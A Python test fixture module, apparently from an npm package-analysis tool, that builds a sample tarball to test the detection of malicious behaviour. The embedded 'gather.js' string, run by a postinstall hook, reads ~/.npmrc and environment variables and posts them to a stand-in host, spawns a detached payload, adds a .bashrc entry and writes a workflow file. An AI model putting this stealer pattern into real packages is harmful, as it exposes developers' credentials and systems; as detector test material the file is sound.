"""Inert artifacts that look like attacks. Nothing here runs; hosts are at `.invalid`."""

from collections.abc import Mapping

from pratique.analysis.features.view import View, view_of
from pratique.analysis.job import Part
from pratique.analysis.reading import open_part, read_contents
from pratique.archive import DEFAULT_LIMITS
from pratique.core.names import Ecosystem, PackageRef
from pratique.respond.behaviour.asking import of_data
from pratique.respond.behaviour.reading import describe
from pratique.respond.behaviour.value import Behaviour
from tests.analysis.inspecting import package_json
from tests.builders import tgz

REF = PackageRef(Ecosystem.NPM, "sample").at("1.0.0")
STEALER = """const fs = require("fs"), os = require("os"), path = require("path"), https = require("https"), cp = require("child_process");
if (os.hostname().startsWith("build-")) {
  const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
  const request = https.request("https://collect.evil.invalid/drop", { method: "POST" });
  request.write(JSON.stringify({ env: process.env, token }));
  request.end();
  fs.writeFileSync(path.join(os.tmpdir(), "act.mond.js"), Buffer.from("Y29uc29sZS5sb2c=", "base64"));
  cp.spawn("node", [path.join(os.tmpdir(), "act.mond.js")], { detached: true });
  fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "node ~/.cache/act.js &");
  fs.writeFileSync(".github/workflows/discussion.yaml", "on: discussion");
}
"""
FILES = {
    "package.json": package_json(scripts={"postinstall": "node gather.js"}),
    "gather.js": STEALER,
    "index.js": "module.exports = 1;",
}


def archive(files: Mapping[str, str] = FILES) -> bytes:
    return tgz({"package.json": package_json(), **files})


def seen(data: bytes, filename: str = "sample-1.0.0.tgz") -> tuple[Part, View]:
    part = of_data(data, filename, Ecosystem.NPM, REF).part
    contents = read_contents(open_part(part, data, DEFAULT_LIMITS), {}, lambda _key, _facts: None)
    return part, view_of(part.ecosystem, part.kind, contents)


def behaviour(files: Mapping[str, str] = FILES) -> Behaviour:
    return describe(*seen(archive(files)))
